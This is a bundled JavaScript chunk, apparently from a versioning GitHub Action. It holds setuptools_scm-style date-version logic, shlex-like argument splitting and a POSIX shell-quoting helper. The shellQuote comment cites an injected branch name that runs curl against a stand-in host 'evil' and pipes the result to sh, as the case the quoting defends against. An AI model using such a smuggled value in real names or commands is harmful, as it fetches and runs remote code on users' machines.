        format = { prefix: match.prefix, longYear: match.year.length === 4 };
        tagDate = parseDate(match.date, format);
    }
    const headDate = s.nodeDate;
    let patch;
    if (tagDate === headDate) {
        patch = BigInt(match?.patch || '0') + 1n;
    }
    else {
        if (match && tagDate > headDate)
            warnings.push(`The tag's date (${tagDate}) is after the commit's date (${headDate}).`);
        patch = 0n;
    }
    const next = `${formatDate(headDate, format)}.${patch}`;
    if (!s.normalize)
        return next;
    const parsed = (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .parseVersion */ .ot)(next);
    if (!parsed)
        throw new SchemeError(`${next} is not a version`);
    // Version() drops the prefix and leading zeros.
    return (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .formatVersion */ .qh)(parsed);
}
/** strptime with %Y.%m.%d or %y.%m.%d (and the tag's v prefix): an ISO date, or SchemeError. */
function parseDate(text, format) {
    const [year, month, day] = text.slice(format.prefix.length).split('.');
    if (year.length !== (format.longYear ? 4 : 2))
        throw new SchemeError(`${text} does not match its date format`);
    const y = format.longYear ? Number(year) : Number(year) + (Number(year) < 69 ? 2000 : 1900);
    const m = Number(month);
    const d = Number(day);
    const valid = m >= 1 && m <= 12 && d >= 1 && d <= new Date(Date.UTC(y, m, 0)).getUTCDate();
    if (!valid)
        throw new SchemeError(`${text} is not a valid date`);
    return `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`;
}
function formatDate(iso, format) {
    const [y, m, d] = iso.split('-');
    return `${format.prefix}${format.longYear ? y : y.slice(2)}.${m}.${d}`;
}
/** Run a scheme; where setuptools_scm would refuse a .devN tag, the counted-on version. */
function computeVersion(scheme, s) {
    try {
        return applyScheme(scheme, s);
    }
    catch (error) {
        if (error instanceof CountOn) {
            return {
                version: error.version,
                warnings: [
                    `The nearest tag is the development version ${s.tag}; setuptools_scm cannot bump it, so this release counts on from it. Tag a release or a .dev0 version to avoid this.`
                ]
            };
        }
        throw error;
    }
}


/***/ }),

/***/ 13880:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LS: () => (/* binding */ plural),
/* harmony export */   ZL: () => (/* binding */ shellQuote),
/* harmony export */   ry: () => (/* binding */ splitList),
/* harmony export */   sG: () => (/* binding */ splitArgs),
/* harmony export */   uz: () => (/* binding */ splitLines)
/* harmony export */ });
// Splitting input text into lists and argument words. No shell is involved:
// the words go to programs as they are.
/** Split a list on commas and newlines, dropping empty entries. */
function splitList(text) {
    return text
        .split(/[,\n]/)
        .map(s => s.trim())
        .filter(Boolean);
}
/** Non-empty lines, trimmed. */
function splitLines(text) {
    return text
        .split('\n')
        .map(s => s.trim())
        .filter(Boolean);
}
/**
 * Split words as Python's shlex.split does (POSIX rules): white space separates,
 * quotes group, a backslash escapes outside single quotes. Undefined for an
 * unclosed quote or a trailing backslash.
 */
function splitArgs(text) {
    const args = [];
    let current;
    let quote;
    for (let i = 0; i < text.length; i++) {
        const c = text[i];
        if (quote === "'") {
            if (c === "'")
                quote = undefined;
            else
                current += c;
        }
        else if (c === '\\') {
            const next = text[++i];
            if (next === undefined)
                return undefined;
            // Inside double quotes a backslash escapes only \ " $ ` and a newline.
            if (quote === '"' && !'\\"$`\n'.includes(next))
                current = (current ?? '') + c;
            if (next !== '\n')
                current = (current ?? '') + next;
        }
        else if (quote === '"') {
            if (c === '"')
                quote = undefined;
            else
                current += c;
        }
        else if (c === '"' || c === "'") {
            quote = c;
            current ??= '';
        }
        else if (/\s/.test(c)) {
            if (current !== undefined)
                args.push(current);
            current = undefined;
        }
        else {
            current = (current ?? '') + c;
        }
    }
    if (quote)
        return undefined;
    if (current !== undefined)
        args.push(current);
    return args;
}
/** `1 commit`, `3 commits`. */
function plural(n, word) {
    return `${n} ${word}${n === 1 ? '' : 's'}`;
}
/**
 * A word as a POSIX shell reads it back unchanged: as it is where it holds only characters no shell gives a meaning
 * to, else in single quotes (a ' inside written '\''). For commands the action prints for a person to paste: a branch
 * named `x$(curl${IFS}-s${IFS}evil|sh)` stays a name.
 */
function shellQuote(word) {
    if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word))
        return word;
    return `'${word.replace(/'/g, `'\\''`)}'`;
}


/***/ })

};

//# sourceMappingURL=637.index.js.map